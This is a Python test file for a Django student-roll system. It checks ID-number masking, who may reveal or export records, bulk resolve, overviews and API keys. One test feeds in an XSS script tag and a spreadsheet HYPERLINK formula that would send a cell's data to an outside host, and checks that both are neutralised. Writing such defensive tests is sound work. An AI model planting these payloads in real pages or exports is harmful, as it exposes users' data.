"""The problem-record pages as logged-in accounts see them: the school's work list,
masking and reveal, bulk resolve, county and province overviews, the Excel export
and the key page. Records arrive through roll.services.intake (the API's service)."""

import io
import re
from datetime import timedelta

import pytest
from django.utils import timezone, translation
from openpyxl import load_workbook

from accounts.models import AuditEvent, Level
from roll import services
from roll.models import Kind, ProblemRecord, RollKey
from tests import factories
from tests.roll.helpers import Roll, alert, ric

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _id(n: int) -> str:
    return ric(f"13010220120301{n:03d}")


def _masked(number: str) -> str:
    return number[:6] + "********" + number[-4:]


@pytest.fixture
def second_school(tree):
    return factories.unit(Level.SCHOOL, "1301020002", "长安区第二小学", tree.county)


@pytest.fixture
def records(tree, hebei_key, second_school):
    """长安区第一中学: S1–S4 open (S3 in progress), S5 resolved, S6 closed;
    长安区第二小学: T1, T2 open; 桥西区第一中学: U1 open since long ago, U2 resolved."""
    key, _ = hebei_key
    now = timezone.now()

    def intake(alerts, days_ago):
        for a in alerts:  # found by the roll system when it was sent
            a["detected_at"] = (now - timedelta(days=days_ago)).isoformat()
        result = services.intake(
            key=key, payload={"alerts": alerts}, now=now - timedelta(days=days_ago)
        )
        assert result["rejected"] == [] and result["accepted"] == len(alerts), result

    intake([alert("U1", school="1301040001", kind="identity_duplicate", id_number=_id(20))], 20)
    intake([alert("U2", school="1301040001", kind="identity_duplicate", id_number=_id(21))], 19)
    intake(
        [
            alert("S1", kind="id_duplicate", id_number=_id(1), name="甲"),
            alert("S3", kind="police_auth_failed", id_number=_id(3), name="丙"),
            alert("S5", kind="id_invalid", id_number=_id(5), name="戊"),
            alert("S6", kind="cross_province_duplicate", id_number=_id(6), name="己"),
            alert("T2", school="1301020002", kind="id_invalid", id_number=_id(12)),
        ],
        3,
    )
    intake(
        [
            alert("S2", kind="id_duplicate", id_number=_id(2), name="乙", graduating=True),
            alert(
                "S4",
                kind="id_invalid",
                id_number=_id(4),
                name="丁",
                graduating=True,
                roll_no="G" + _id(4),
            ),
            alert("T1", school="1301020002", id_number=_id(11), graduating=True),
        ],
        1,
    )
    pk = dict(ProblemRecord.objects.values_list("alert_id", "pk"))
    school_staff = factories.staff(tree.school)
    services.records_update(actor=school_staff, record_ids=[pk["S3"]], action="start")
    services.records_update(
        actor=school_staff, record_ids=[pk["S5"]], action="resolve", note="已更正"
    )
    services.records_update(
        actor=factories.staff(tree.sibling_school),
        record_ids=[pk["U2"]],
        action="resolve",
        note="已核实",
    )
    services.verdict(key=key, payload={"alert_ids": ["S6"], "outcome": "verified"})
    return pk


def _snapshot():
    return sorted(
        ProblemRecord.objects.values_list(
            "alert_id", "status", "change_seq", "resolution_note", "resolved_by"
        )
    )


def _messages(response):
    return [(m.level_tag, str(m)) for m in response.context["messages"]]


def _rows(html: str, table_id: str) -> list[list[str]]:
    """The cells of a table's body rows, tags stripped."""
    table = re.search(rf'<table[^>]*id="{table_id}".*?<tbody>(.*?)</tbody>', html, re.S)
    assert table, table_id
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", table.group(1), re.S)
    return [
        [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", r, re.S)]
        for r in rows
    ]


def _unit_row(html: str, code: str) -> list[str]:
    row = re.search(rf'<tr data-unit="{code}">(.*?)</tr>', html, re.S)
    assert row, code
    return [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row[1])]


# --- the school's page ----------------------------------------------------------------------------


def test_school_page_groups_by_kind_graduating_first(tree, records, client_for):
    response = client_for(factories.staff(tree.school)).get("/roll/")
    assert response.status_code == 200
    html = response.content.decode()
    kinds = re.findall(r'class="card roll-group" data-kind="([a-z_]+)"', html)
    assert kinds == ["id_invalid", "id_duplicate", "police_auth_failed"]
    alerts = re.findall(r'<tr data-alert="([^"]+)"', html)
    assert alerts == ["S4", "S2", "S1", "S3"]  # open and in progress; graduating first
    assert "T1" not in alerts and "U1" not in alerts
    # Only what may still be worked has a checkbox, and the form posts to the bulk view.
    assert f'name="record" value="{records["S1"]}"' in html
    assert 'action="/roll/records/"' in html

    all_html = client_for(factories.staff(tree.school)).get("/roll/?status=all").content.decode()
    assert re.findall(r'<tr data-alert="([^"]+)"', all_html) == ["S4", "S5", "S2", "S1", "S6", "S3"]
    assert f'name="record" value="{records["S5"]}"' not in all_html
    resolved = client_for(factories.staff(tree.school)).get("/roll/?status=resolved")
    assert re.findall(r'<tr data-alert="([^"]+)"', resolved.content.decode()) == ["S5"]


def test_school_page_masks_id_numbers(tree, records, client_for):
    for status in ("open", "all"):
        html = client_for(factories.staff(tree.school)).get(f"/roll/?status={status}")
        html = html.content.decode()
        for n in (1, 2, 3, 4):
            assert _masked(_id(n)) in html
            assert _id(n) not in html
            assert _id(n)[:-4] not in html  # not even the hidden middle digits
        assert "130102********" in html
    partial = client_for(factories.staff(tree.school)).get("/roll/?partial=1").content.decode()
    assert _masked(_id(4)) in partial and _id(4) not in partial


def test_wrong_check_character_is_flagged_on_the_page(tree, hebei_key, client_for):
    key, _ = hebei_key
    wrong = _id(1)[:-1] + ("0" if _id(1)[-1] != "0" else "1")
    services.intake(key=key, payload={"alerts": [alert("W1", kind="id_invalid", id_number=wrong)]})
    html = client_for(factories.staff(tree.school)).get("/roll/").content.decode()
    assert _masked(wrong) in html and wrong not in html
    assert html.count('class="overdue"') == 1


# --- reveal -----------------------------------------------------------------------------------------


def _unmask_events():
    return AuditEvent.objects.filter(action="roll.id_unmasked")


@pytest.mark.parametrize("who", ["school manager", "county manager"])
def test_reveal_for_the_school_and_its_county_managers(tree, records, client_for, who):
    account = {
        "school manager": lambda: factories.manager(tree.school),
        "county manager": lambda: factories.manager(tree.county),
    }[who]()
    client = client_for(account)
    response = client.post(f"/roll/records/{records['S4']}/reveal/")
    assert response.status_code == 200
    assert response.json() == {"id_number": _id(4), "roll_no": "G" + _id(4)}
    [event] = _unmask_events()
    assert event.actor_id == account.pk and event.unit_id == tree.school.pk
    assert event.detail["alert_id"] == "S4"
    client.post(f"/roll/records/{records['S1']}/reveal/")
    assert _unmask_events().count() == 2  # each view is written down
    assert client.get(f"/roll/records/{records['S4']}/reveal/").status_code == 405


@pytest.mark.parametrize(
    "who",
    [
        "province manager",
        "prefecture manager",
        "sibling county manager",
        "county support engineer",
        "county staff",
        "another school's staff",
        "Beijing manager",
        "school staff",
        "another school's manager",
    ],
)
def test_reveal_refused(tree, records, client_for, second_school, who):
    """Full ID numbers only for the managers of the school and its county (issue 14):
    the school's staff work the records masked."""
    account = {
        "school staff": lambda: factories.staff(tree.school),
        "another school's manager": lambda: factories.manager(second_school),
        "province manager": lambda: factories.manager(tree.province),
        "prefecture manager": lambda: factories.manager(tree.prefecture),
        "sibling county manager": lambda: factories.manager(tree.sibling),
        "county support engineer": lambda: factories.staff(tree.county, is_support_engineer=True),
        "county staff": lambda: factories.staff(tree.county),
        "another school's staff": lambda: factories.staff(second_school),
        "Beijing manager": lambda: factories.manager(tree.municipality),
    }[who]()
    response = client_for(account).post(f"/roll/records/{records['S4']}/reveal/")
    assert response.status_code in (403, 404)
    assert _id(4) not in response.content.decode()
    assert not _unmask_events().exists()


def test_reveal_of_an_unknown_record_is_404(tree, records, client_for):
    response = client_for(factories.staff(tree.school)).post("/roll/records/999999/reveal/")
    assert response.status_code == 404


# --- bulk resolve ----------------------------------------------------------------------------------


def test_bulk_resolve_with_note(tree, records, client_for):
    staff = factories.staff(tree.school)
    client = client_for(staff)
    ids = [records["S1"], records["S2"], records["S3"]]
    response = client.post("/roll/records/", {"record": ids, "action": "resolve", "note": "已更正"})
    assert response.status_code == 302 and response["Location"] == "/roll/"
    resolved = ProblemRecord.objects.filter(pk__in=ids)
    assert {(r.status, r.resolution_note, r.resolved_by_id) for r in resolved} == {
        ("resolved", "已更正", staff.pk)
    }
    assert all(r.resolved_at is not None for r in resolved)
    assert ProblemRecord.objects.get(pk=records["S4"]).status == "open"
    page = client.get("/roll/")
    assert [level for level, _ in _messages(page)] == ["success"]
    assert re.findall(r'<tr data-alert="([^"]+)"', page.content.decode()) == ["S4"]


def test_mark_in_progress(tree, records, client_for):
    client = client_for(factories.staff(tree.school))
    response = client.post(
        "/roll/records/", {"record": [records["S1"]], "action": "start"}, follow=True
    )
    assert [level for level, _ in _messages(response)] == ["success"]
    assert ProblemRecord.objects.get(pk=records["S1"]).status == "in_progress"


@pytest.mark.parametrize("note", [None, "", "   "])
def test_resolve_without_note_is_refused(tree, records, client_for, note):
    before = _snapshot()
    data = {"record": [records["S1"], records["S2"]], "action": "resolve"}
    if note is not None:
        data["note"] = note
    response = client_for(factories.staff(tree.school)).post("/roll/records/", data, follow=True)
    assert response.status_code == 200
    messages = _messages(response)
    assert len(messages) == 1 and messages[0][0] == "error"
    with translation.override(response["Content-Language"]):
        assert messages[0][1] == translation.gettext("Say how the record was corrected.")
    assert _snapshot() == before


@pytest.mark.parametrize("who", ["another school's staff", "county manager", "province manager"])
def test_only_the_schools_own_accounts_resolve(tree, records, client_for, second_school, who):
    account = {
        "another school's staff": lambda: factories.staff(second_school),
        "county manager": lambda: factories.manager(tree.county),
        "province manager": lambda: factories.manager(tree.province),
    }[who]()
    before = _snapshot()
    response = client_for(account).post(
        "/roll/records/",
        {"record": [records["S1"]], "action": "resolve", "note": "越权"},
        follow=True,
    )
    assert response.status_code in (200, 403)
    if response.status_code == 200:
        assert [level for level, _ in _messages(response)] == ["error"]
    assert _snapshot() == before


def test_mixed_selection_with_another_schools_record_changes_nothing(
    tree, records, client_for, second_school
):
    before = _snapshot()
    client_for(factories.staff(tree.school)).post(
        "/roll/records/",
        {"record": [records["S1"], records["T1"]], "action": "resolve", "note": "已更正"},
    )
    assert _snapshot() == before


@pytest.mark.parametrize(
    "data",
    [
        {"action": "resolve", "note": "已更正"},  # nothing selected
        {"record": ["²"], "action": "resolve", "note": "已更正"},
        {"record": ["abc", "-1"], "action": "resolve", "note": "已更正"},
        {"record": ["S1"], "action": "delete", "note": "已更正"},
        {"record": ["S1"], "action": "resolve", "note": "x" * 2001},
        {"record": ["S5"], "action": "resolve", "note": "再次"},  # already resolved
    ],
)
def test_bad_updates_are_refused_with_a_message(tree, records, client_for, data):
    data = {**data, "record": [str(records.get(r, r)) for r in data.get("record", [])]}
    before = _snapshot()
    response = client_for(factories.staff(tree.school)).post("/roll/records/", data, follow=True)
    assert response.status_code == 200
    assert [level for level, _ in _messages(response)] == ["error"]
    assert _snapshot() == before


def test_update_needs_post_and_login(tree, records, client):
    assert client.post("/roll/records/", {"record": [records["S1"]]}).status_code == 302
    assert client.get("/roll/").status_code == 302
    assert ProblemRecord.objects.get(pk=records["S1"]).status == "open"


# --- overviews ---------------------------------------------------------------------------------


def test_county_overview_shows_each_schools_counts(tree, records, client_for):
    response = client_for(factories.manager(tree.county)).get("/roll/")
    assert response.status_code == 200
    html = response.content.decode()
    assert sorted(re.findall(r'<tr data-unit="(\d+)">', html)) == ["1301020001", "1301020002"]
    # name, open, in progress, resolved, closed, graduating open, rate, oldest open
    first = _unit_row(html, "1301020001")
    assert first[0] == "长安区第一中学"
    assert first[1:7] == ["3", "1", "1", "1", "2", "33.3%"]
    second = _unit_row(html, "1301020002")
    assert second[0] == "长安区第二小学"
    assert second[1:7] == ["2", "0", "0", "0", "1", "0.0%"]
    assert "1301040001" not in html and "桥西区第一中学" not in html
    assert "/roll/units/1301020001/" in html
    # A county manager may export with full numbers; nobody here manages keys.
    assert "/roll/open.xlsx?unit=130102&amp;unmasked=1" in html
    assert "/roll/keys/" not in html


def test_county_support_engineer_sees_the_overview(tree, records, client_for):
    engineer = factories.staff(tree.county, is_support_engineer=True)
    html = client_for(engineer).get("/roll/").content.decode()
    assert _unit_row(html, "1301020001")[1] == "3"
    assert "unmasked=1" not in html


def test_county_staff_without_oversight_gets_403(tree, records, client_for):
    assert client_for(factories.staff(tree.county)).get("/roll/").status_code == 403


def test_drill_down_to_a_school(tree, records, client_for):
    response = client_for(factories.manager(tree.county)).get("/roll/units/1301020001/")
    assert response.status_code == 200
    html = response.content.decode()
    assert re.findall(r'<tr data-alert="([^"]+)"', html) == ["S4", "S2", "S1", "S3"]
    assert 'name="record"' not in html and 'action="/roll/records/"' not in html
    assert f"/roll/records/{records['S4']}/reveal/" in html  # the county may reveal
    assert _masked(_id(4)) in html and _id(4) not in html
    assert "/roll/units/130102/" in html  # the trail back


def test_province_drill_down_has_no_reveal(tree, records, client_for):
    client = client_for(factories.manager(tree.province))
    html = client.get("/roll/units/1301020001/").content.decode()
    assert re.findall(r'<tr data-alert="([^"]+)"', html) == ["S4", "S2", "S1", "S3"]
    assert "/reveal/" not in html and _id(4) not in html
    county = client.get("/roll/units/130102/").content.decode()
    assert _unit_row(county, "1301020001")[1] == "3"


@pytest.mark.parametrize(
    "who, code",
    [
        ("sibling county manager", "1301020001"),
        ("sibling county manager", "130102"),
        ("Beijing manager", "1301020001"),
        ("school staff", "1301020001"),
        ("school staff", "1301020002"),
        ("county manager", "130104"),
        ("county manager", "130000"),
        ("county manager", "9999999999"),
    ],
)
def test_drill_down_outside_reach_is_404(tree, records, client_for, who, code):
    account = {
        "sibling county manager": lambda: factories.manager(tree.sibling),
        "Beijing manager": lambda: factories.manager(tree.municipality),
        "school staff": lambda: factories.staff(tree.school),
        "county manager": lambda: factories.manager(tree.county),
    }[who]()
    assert client_for(account).get(f"/roll/units/{code}/").status_code == 404


def test_province_overview_by_kind_and_slowest_counties(tree, records, client_for):
    response = client_for(factories.manager(tree.province)).get("/roll/")
    assert response.status_code == 200
    html = response.content.decode()
    with translation.override(response["Content-Language"]):
        labels = {k: str(label) for k, label in Kind.choices}
    assert _rows(html, "roll-kinds") == [
        [labels["id_invalid"], "2", "3"],  # S4, T2 open; S5 resolved
        [labels["id_duplicate"], "3", "3"],  # S1, S2, T1
        [labels["identity_duplicate"], "1", "2"],  # U1 open; U2 resolved
        [labels["cross_province_duplicate"], "0", "1"],  # S6 closed
        [labels["police_auth_failed"], "1", "1"],  # S3 in progress
    ]
    slowest = _rows(html, "roll-slowest")
    assert [r[0] for r in slowest] == ["桥西区", "长安区"]  # oldest open record first
    assert slowest[0][1:3] == ["1", "50.0%"]
    assert slowest[1][1:3] == ["6", "25.0%"]
    assert _unit_row(html, "130100")[:2] == ["石家庄市", "6"]
    assert "/roll/keys/" in html
    assert "unmasked=1" not in html


def test_ministry_overview_by_region(tree, records, client_for):
    html = client_for(factories.manager(tree.ministry)).get("/roll/").content.decode()
    assert _unit_row(html, "130000")[:2] == ["河北省", "6"]
    assert [r[0] for r in _rows(html, "roll-slowest")] == ["桥西区", "长安区"]


# --- export ------------------------------------------------------------------------------------


def _exports():
    return AuditEvent.objects.filter(action="roll.exported")


def _book(response):
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]
    return load_workbook(io.BytesIO(response.content))


def _cells(book) -> list[str]:
    return [str(c) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row]


def test_county_export_masked_by_default(tree, records, client_for):
    manager = factories.manager(tree.county)
    response = client_for(manager).get("/roll/open.xlsx?unit=130102")
    book = _book(response)
    with translation.override(response["Content-Language"]):
        summary_title = translation.gettext("Summary")
    assert book.sheetnames[0] == summary_title
    assert len(book.sheetnames) == 3
    assert book.sheetnames[1].startswith("1301020001") and book.sheetnames[2].startswith(
        "1301020002"
    )
    summary = list(book.worksheets[0].iter_rows(values_only=True))
    assert summary[1:] == [
        ("1301020001", "长安区第一中学", 4, 2),
        ("1301020002", "长安区第二小学", 2, 1),
    ]
    school = list(book.worksheets[1].iter_rows(values_only=True))
    order = [r[0] for r in school[1:]]
    assert set(order[:2]) == {"S2", "S4"} and set(order[2:]) == {"S1", "S3"}  # graduating first
    ids = {r[0]: r[5] for r in school[1:]}
    assert ids == {f"S{n}": _masked(_id(n)) for n in (1, 2, 3, 4)}
    assert {r[0]: r[6] for r in school[1:]}["S4"] == "G" + _masked(_id(4))
    assert [r[0] for r in list(book.worksheets[2].iter_rows(values_only=True))[1:]] == [
        "T1",
        "T2",
    ]
    everything = "\n".join(_cells(book))
    for n in (1, 2, 3, 4, 11, 12):
        assert _id(n) not in everything
    assert "S5" not in everything and "S6" not in everything and "U1" not in everything
    [event] = _exports()
    assert event.actor_id == manager.pk and event.unit_id == tree.county.pk
    assert event.detail == {"unmasked": False, "records": 6}


REASON = "核对毕业年级身份证号，市教育局要求"


def test_county_manager_may_export_unmasked(tree, records, client_for):
    manager = factories.manager(tree.county)
    client = client_for(manager)
    url = "/roll/open.xlsx?unit=130102&unmasked=1"
    book = _book(client.post(url, {"reason": REASON}))
    school = list(book["".join(n for n in book.sheetnames if n.startswith("1301020001"))].values)
    ids = {r[0]: r[5] for r in school[1:]}
    assert ids == {f"S{n}": _id(n) for n in (1, 2, 3, 4)}
    assert {r[0]: r[6] for r in school[1:]}["S4"] == "G" + _id(4)
    _book(client.post("/roll/open.xlsx?unit=1301020001&unmasked=1", {"reason": " 学籍复核 "}))
    _book(client.get("/roll/open.xlsx"))
    assert [e.detail for e in _exports().order_by("id")] == [
        {"unmasked": True, "records": 6, "reason": REASON},
        {"unmasked": True, "records": 4, "reason": "学籍复核"},
        {"unmasked": False, "records": 6},
    ]
    assert {e.actor_id for e in _exports()} == {manager.pk}


def test_unmasked_export_asks_for_a_reason_first(tree, records, client_for):
    """GET with unmasked=1 is the reason form, never the file; a reason of 4..200
    characters is required (in Chinese), and nothing is exported or audited before."""
    client = client_for(factories.manager(tree.county))
    url = "/roll/open.xlsx?unit=130102&unmasked=1"
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    html = response.content.decode()
    assert 'id="export-reason-form"' in html and 'name="reason"' in html
    assert "导出" in html and _id(4) not in html
    for bad in ("", "   ", "太短", "x" * 201):
        response = client.post(url, {"reason": bad})
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/html")
        assert 'class="field-error"' in response.content.decode()
    assert not _exports().exists()
    _book(client.post(url, {"reason": "x" * 200}))
    assert _exports().get().detail["reason"] == "x" * 200
    # A POST without unmasked=1 exports nothing: the masked workbook is a GET.
    assert client.post("/roll/open.xlsx?unit=130102", {"reason": REASON}).status_code == 405


def test_school_manager_exports_its_school_unmasked(tree, records, client_for, second_school):
    manager = factories.manager(tree.school)
    client = client_for(manager)
    html = client.get("/roll/").content.decode()
    assert "/roll/open.xlsx?unmasked=1" in html
    book = _book(client.post("/roll/open.xlsx?unmasked=1", {"reason": REASON}))
    assert _id(4) in "\n".join(_cells(book))
    [event] = _exports()
    assert event.unit_id == tree.school.pk and event.detail["reason"] == REASON
    # Another school's records stay out of reach.
    other = client.post(f"/roll/open.xlsx?unit={second_school.code}&unmasked=1", {"reason": REASON})
    assert other.status_code in (403, 404)


@pytest.mark.parametrize("method", ["get", "post"])
def test_school_staff_get_the_masked_workbook_only(tree, records, client_for, method):
    client = client_for(factories.staff(tree.school))
    html = client.get("/roll/").content.decode()
    assert "unmasked=1" not in html and "/reveal/" not in html
    if method == "get":  # a reason in the query string changes nothing either
        response = client.get("/roll/open.xlsx", {"unmasked": "1", "reason": REASON})
    else:
        response = client.post("/roll/open.xlsx?unmasked=1", {"reason": REASON})
    assert response.status_code == 403
    assert not _exports().exists()
    book = _book(client.get("/roll/open.xlsx"))
    assert _id(4) not in "\n".join(_cells(book))


def test_province_manager_exports_masked_only(tree, records, client_for):
    client = client_for(factories.manager(tree.province))
    assert client.get("/roll/open.xlsx?unit=130102&unmasked=1").status_code == 403
    assert client.get("/roll/open.xlsx?unmasked=1").status_code == 403
    assert not _exports().exists()
    book = _book(client.get("/roll/open.xlsx?unit=130102"))
    assert _id(1) not in "\n".join(_cells(book))
    whole = _book(client.get("/roll/open.xlsx"))
    assert len(whole.sheetnames) == 1 + 3  # summary + three schools with open records
    assert _exports().count() == 2


@pytest.mark.parametrize(
    "who, query",
    [
        ("sibling county manager", "unit=130102"),
        ("Beijing manager", "unit=130102"),
        ("county support engineer", "unit=130102&unmasked=1"),
        ("county staff", "unit=130102"),
    ],
)
def test_export_refused(tree, records, client_for, who, query):
    account = {
        "sibling county manager": lambda: factories.manager(tree.sibling),
        "Beijing manager": lambda: factories.manager(tree.municipality),
        "county support engineer": lambda: factories.staff(tree.county, is_support_engineer=True),
        "county staff": lambda: factories.staff(tree.county),
    }[who]()
    assert client_for(account).get(f"/roll/open.xlsx?{query}").status_code in (403, 404)
    assert not _exports().exists()


def test_school_exports_its_own_records(tree, records, client_for):
    book = _book(client_for(factories.staff(tree.school)).get("/roll/open.xlsx"))
    assert len(book.sheetnames) == 2
    order = [r[0] for r in list(book.worksheets[1].values)[1:]]
    assert set(order[:2]) == {"S2", "S4"} and set(order[2:]) == {"S1", "S3"}
    assert _exports().count() == 1


def test_outside_text_is_escaped_on_the_page_and_inert_in_the_export(tree, hebei_key, client_for):
    """Names and details come from the roll system: never markup on the page, never a
    formula or a refused control character in the workbook."""
    key, _ = hebei_key
    link = '=HYPERLINK("http://example.com/?"&F2,"详情")'
    result = services.intake(
        key=key,
        payload={
            "alerts": [
                alert("X1", name="<script>alert(1)</script>", detail=link, grade="=1+1"),
                alert("X2", name="张\x07三", detail="\x1b[31m重复\x1b[0m"),
            ]
        },
    )
    assert result["accepted"] == 2
    html = client_for(factories.staff(tree.school)).get("/roll/").content.decode()
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html

    book = _book(client_for(factories.manager(tree.county)).get("/roll/open.xlsx?unit=130102"))
    rows = {row[0].value: row for row in book.worksheets[1].iter_rows(min_row=2)}
    assert rows["X1"][10].value == link and rows["X1"][10].data_type == "s"
    assert rows["X1"][7].value == "=1+1" and rows["X1"][7].data_type == "s"
    assert rows["X1"][2].value == "<script>alert(1)</script>"
    assert rows["X2"][2].value == "张三" and rows["X2"][10].value == "[31m重复[0m"
    assert not any(
        c.data_type == "f" for ws in book.worksheets for row in ws.iter_rows() for c in row
    )


# --- keys --------------------------------------------------------------------------------------


def test_province_manager_creates_and_revokes_a_key(tree, client_for):
    manager = factories.manager(tree.province)
    client = client_for(manager)
    assert client.get("/roll/keys/").status_code == 200
    response = client.post("/roll/keys/", {"label": "学籍系统生产环境"})
    assert response.status_code == 302  # a reload of the next page issues nothing
    html = client.get(response.url).content.decode()
    key = RollKey.objects.get()
    assert key.unit_id == tree.province.pk and key.label == "学籍系统生产环境"
    secret = re.search(r'id="new-key-secret">([^<]+)<', html)[1]
    assert key.key_id in html and len(secret) >= 32
    assert secret.encode() not in bytes(key.secret_encrypted)  # stored encrypted
    [issued] = AuditEvent.objects.filter(action="roll.key_issued")
    assert issued.actor_id == manager.pk and issued.detail == {"key": key.key_id}

    reload = client.get("/roll/keys/").content.decode()
    assert key.key_id in reload and secret not in reload and "new-key-secret" not in reload
    assert client.post("/roll/keys/", {"label": "second"}).status_code == 302
    assert secret not in client.get("/roll/keys/").content.decode()

    response = client.post(f"/roll/keys/{key.pk}/revoke/")
    assert response.status_code == 302
    key.refresh_from_db()
    assert key.revoked_at is not None and key.revoked_by_id == manager.pk
    [revoked] = AuditEvent.objects.filter(action="roll.key_revoked")
    assert revoked.detail == {"key": key.key_id}
    client.post(f"/roll/keys/{key.pk}/revoke/")  # again: nothing more to record
    assert AuditEvent.objects.filter(action="roll.key_revoked").count() == 1


def test_the_shown_secret_signs_requests(tree, client_for, api_client):
    client = client_for(factories.manager(tree.province))
    html = client.post("/roll/keys/", {"label": "x"}, follow=True).content.decode()
    key_id = re.search(r'id="new-key-id">([^<]+)<', html)[1]
    secret = re.search(r'id="new-key-secret">([^<]+)<', html)[1]
    roll = Roll(api_client, key_id, secret)
    response = roll.send([alert("HB-1")])
    assert response.status_code == 200 and response.json()["accepted"] == 1


def test_ministry_manager_manages_ministry_keys(tree, client_for):
    client = client_for(factories.manager(tree.ministry))
    assert client.post("/roll/keys/", {"label": "部级"}).status_code == 302
    assert RollKey.objects.get().unit_id == tree.ministry.pk


@pytest.mark.parametrize(
    "who",
    [
        "county manager",
        "prefecture manager",
        "province staff",
        "province support engineer",
        "school staff",
        "school manager",
    ],
)
def test_keys_page_is_for_province_and_ministry_managers(tree, client_for, who):
    account = {
        "county manager": lambda: factories.manager(tree.county),
        "prefecture manager": lambda: factories.manager(tree.prefecture),
        "province staff": lambda: factories.staff(tree.province),
        "province support engineer": lambda: factories.staff(
            tree.province, is_support_engineer=True
        ),
        "school staff": lambda: factories.staff(tree.school),
        "school manager": lambda: factories.manager(tree.school),
    }[who]()
    client = client_for(account)
    assert client.get("/roll/keys/").status_code == 403
    assert client.post("/roll/keys/", {"label": "x"}).status_code == 403
    assert not RollKey.objects.exists()


def test_keys_of_another_province_cannot_be_revoked(tree, hebei_key, client_for):
    key, _ = hebei_key
    for account in (
        factories.manager(tree.municipality),
        factories.manager(tree.county),
        factories.staff(tree.province),
    ):
        response = client_for(account).post(f"/roll/keys/{key.pk}/revoke/")
        assert response.status_code in (403, 404)
    key.refresh_from_db()
    assert key.revoked_at is None
    assert not AuditEvent.objects.filter(action="roll.key_revoked").exists()
    page = client_for(factories.manager(tree.municipality)).get("/roll/keys/").content.decode()
    assert key.key_id not in page
